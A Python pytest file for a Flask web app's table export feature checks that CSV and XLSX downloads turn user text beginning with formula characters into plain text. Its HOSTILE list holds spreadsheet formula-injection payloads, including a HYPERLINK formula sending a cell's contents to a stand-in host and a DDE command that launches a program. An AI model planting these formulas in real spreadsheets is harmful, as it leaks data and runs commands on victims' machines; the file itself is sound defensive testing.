"""Tables to take away: what somebody typed is text, whatever it begins with."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from flask import Flask
from flask_babel import Babel

from app.core.errors import InputRefused
from app.web.exports import neutral, table_answer

HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1,"qui")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.fixture(scope="module")
def languages() -> Flask:
    """Nothing but a request to answer, in words."""
    app = Flask(__name__)
    Babel(app)
    return app


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_text_in_both_kinds(languages: Flask, text: str) -> None:
    with languages.test_request_context():
        as_csv = table_answer("prova", ["Nome", text], [[text, "ciao"]], "csv")
        as_xlsx = table_answer("prova", ["Nome", text], [[text, "ciao"]], "xlsx")
    rows = list(csv.reader(io.StringIO(as_csv.data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows == [["Nome", f"'{text}"], [f"'{text}", "ciao"]]
    with zipfile.ZipFile(io.BytesIO(as_xlsx.data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert not [name for name in book.namelist() if "rels/sheet" in name], "no links"
        assert sheet.count('t="s"') == 4
    assert as_csv.headers["Content-Disposition"] == "attachment; filename=prova.csv"


@pytest.mark.parametrize("text", ["", "Prato", "a=b", "1-2", "'già", "12", "anna@comune.example"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


def test_numbers_and_days_are_what_they_are(languages: Flask) -> None:
    at = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)
    with languages.test_request_context():
        row = [-3, 2.5, date(2026, 7, 1), at, None]
        as_csv = table_answer("prova", list("abcde"), [row], "csv").data.decode("utf-8-sig")
        as_xlsx = table_answer("prova", list("abcde"), [row], "xlsx").data
        with pytest.raises(InputRefused) as refused:
            table_answer("prova", ["a"], [], "ods")
    assert as_csv.splitlines()[1] == "-3;2.5;01/07/2026;02/07/2026 00:30;"
    with zipfile.ZipFile(io.BytesIO(as_xlsx)) as book:
        assert "<v>-3</v>" in book.read("xl/worksheets/sheet1.xml").decode()
    assert refused.value.code == "export_kind_unknown"
